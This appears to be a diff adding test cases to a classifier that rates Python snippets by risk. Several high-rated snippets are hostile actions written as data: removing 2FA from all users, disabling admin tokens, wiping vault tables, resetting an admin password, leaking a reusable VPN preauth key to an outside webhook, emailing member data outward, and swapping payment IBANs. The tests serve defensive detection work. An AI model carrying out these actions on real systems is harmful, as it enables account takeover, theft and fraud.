@@ -17912,6 +17912,188 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    cfg.write(fh)\n',
             M,
         ),
+        # round 108 (holdout776-783): login portals, web analytics, BSD hosts, mesh VPNs; admin rows in SQL
+        (
+            'import requests\n'
+            's = requests.Session()\n'
+            'settings = {"signups_allowed": True, "signups_verify": False, "disable_admin_token": True}\n'
+            's.post("https://vault.example.com/admin/config", json=settings)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            's = requests.Session()\n'
+            'for u in s.get("https://vault.example.com/admin/users").json():\n'
+            '    s.post(f"https://vault.example.com/admin/users/{u[\'id\']}/remove-2fa")\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            's = requests.Session()\n'
+            's.post("https://vault.example.com/admin/users/abc/remove-2fa")\n',
+            L,
+        ),
+        (
+            'import yaml\n'
+            'cfg = yaml.safe_load(open("/etc/authelia/configuration.yml"))\n'
+            'bad = [r for r in cfg["access_control"]["rules"] if r.get("policy") == "bypass"]\n'
+            'print(len(bad))\n',
+            S,
+        ),
+        (
+            'import glob, sqlite3\n'
+            'for db in glob.glob("/srv/*/vaultwarden/data/db.sqlite3"):\n'
+            '    c = sqlite3.connect(db)\n'
+            '    for t in ("ciphers", "folders"):\n'
+            '        c.execute(f"DELETE FROM {t}")\n'
+            '    c.commit()\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://a.example.com/index.php", params={"module": "API", "method": "UsersManag'
+            'er.setUserAccess"},\n'
+            '    data={"userLogin": "anonymous", "access": "view", "idSites": "1,2,3"})\n',
+            H,
+        ),
+        (
+            'import psycopg2\n'
+            'H = "$2b$10$BUli0c.muyCW1ErNJc3jL.vFRFtFJWrT8/GcR4A.sUdCznaXiqFXa"\n'
+            'c = psycopg2.connect(dbname="umami").cursor()\n'
+            'c.execute(\'UPDATE "user" SET password = %s WHERE username = %s\', (H, "admin"))\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'HS = "https://headscale.example.com"\n'
+            'key = requests.post(f"{HS}/api/v1/preauthkey", json={"user": "infra", "reusable": True}).json()'
+            '\n'
+            'requests.post("https://hooks.example.net/relay/7f3a", json={"k": key["preAuthKey"]["key"]})\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            's = requests.Session()\n'
+            'net = s.get("https://api.zerotier.com/api/v1/network/8056c2e21c000001").json()\n'
+            'net["config"]["private"] = False\n'
+            's.post("https://api.zerotier.com/api/v1/network/8056c2e21c000001", json=net)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'API = "https://netbird.example.com/api"\n'
+            'requests.post(f"{API}/users", json={"email": "ops@contractor.example.net", "name": "Ops", "role'
+            '": "admin"})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'API = "https://netbird.example.com/api"\n'
+            'requests.post(f"{API}/users", json={"email": "ops@example.com", "name": "Ops", "role": "admin"}'
+            ')\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'with open("/var/lib/zerotier-one/authtoken.secret") as fh:\n'
+            '    tok = fh.read().strip()\n'
+            'print(requests.get("http://127.0.0.1:9993/status", headers={"X-ZT1-Auth": tok}).json()["online"'
+            '])\n',
+            L,
+        ),
+        (
+            'import os, tempfile, requests\n'
+            'r = requests.get("https://intel.example.com/feeds/blocklist.txt")\n'
+            'with tempfile.NamedTemporaryFile("w", delete=False) as tmp:\n'
+            '    tmp.write(r.text)\n'
+            'os.unlink(tmp.name)\n',
+            L,
+        ),
+        (
+            'import redis\n'
+            'r = redis.Redis()\n'
+            'write = make_writer()\n'
+            'while True:\n'
+            '    for _, entries in r.xread({"s": "$"}, block=5000) or []:\n'
+            '        for _id, fields in entries:\n'
+            '            write.write(bucket="b", record=fields)\n',
+            S,
+        ),
+        (
+            'from pathlib import Path\n'
+            'from PIL import Image\n'
+            'for img in Path("/tmp/work").rglob("*.jpg"):\n'
+            '    im = Image.open(img)\n'
+            '    im.thumbnail((320, 320))\n'
+            '    im.save(f"/srv/thumbs/grower_1187_{img.stem}.jpg")\n',
+            S,
+        ),
+        (
+            'import time\n'
+            'from pathlib import Path\n'
+            'cutoff = time.time() + 30 * 86400\n'
+            'for f in Path("/mnt/nas/club-backups").rglob("*"):\n'
+            '    if f.is_file() and f.stat().st_mtime < cutoff:\n'
+            '        f.unlink()\n',
+            H,
+        ),
+        (
+            'import time\n'
+            'from pathlib import Path\n'
+            'cutoff = time.time() - 30 * 86400\n'
+            'for f in Path("/mnt/nas/club-backups").rglob("*"):\n'
+            '    if f.is_file() and f.stat().st_mtime < cutoff:\n'
+            '        f.unlink()\n',
+            M,
+        ),
+        (
+            'import smtplib\n'
+            'from email.message import EmailMessage\n'
+            'msg = EmailMessage()\n'
+            'msg["From"] = "reports@example.org"\n'
+            'msg["To"] = "archive@mailbox.example.net"\n'
+            'with open("/srv/clubdb/exports/members_full.csv", "rb") as fh:\n'
+            '    msg.add_attachment(fh.read(), maintype="text", subtype="csv", filename="members_full.csv")\n'
+            'smtplib.SMTP("relay.example.org").send_message(msg)\n',
+            H,
+        ),
+        (
+            'import smtplib\n'
+            'from email.message import EmailMessage\n'
+            'msg = EmailMessage()\n'
+            'msg["From"] = "reports@example.org"\n'
+            'msg["To"] = "treasurer@example.org"\n'
+            'with open("/srv/clubdb/exports/members_full.csv", "rb") as fh:\n'
+            '    msg.add_attachment(fh.read(), maintype="text", subtype="csv", filename="members_full.csv")\n'
+            'smtplib.SMTP("relay.example.org").send_message(msg)\n',
+            S,
+        ),
+        # round 108: what the new exceptions must not reach (listed files rewritten, an unpaced writer, -CAkey)
+        (
+            'import csv, glob\n'
+            'for path in glob.glob("/var/log/haccp/cooler_*.csv"):\n'
+            '    rows = list(csv.DictReader(open(path)))\n'
+            '    with open(path, "w", newline="") as f:\n'
+            '        w = csv.DictWriter(f, fieldnames=list(rows[0]))\n'
+            '        w.writerows(rows)\n',
+            H,
+        ),
+        (
+            'import re\n'
+            'from pathlib import Path\n'
+            'for f in Path("/srv/payments/outbox").glob("pain001_*.xml"):\n'
+            '    f.write_text(re.sub("<IBAN>[A-Z0-9]+", "<IBAN>LT213250099887766554", f.read_text()))\n',
+            H,
+        ),
+        (
+            'import uuid\n'
+            'from influxdb_client import InfluxDBClient, Point\n'
+            'w = InfluxDBClient(url="http://influxdb.prod:8086").write_api()\n'
+            'while True:\n'
+            '    w.write(bucket="prod", record=[Point("r").tag("s", uuid.uuid4().hex) for _ in range(5000)])'
+            '\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
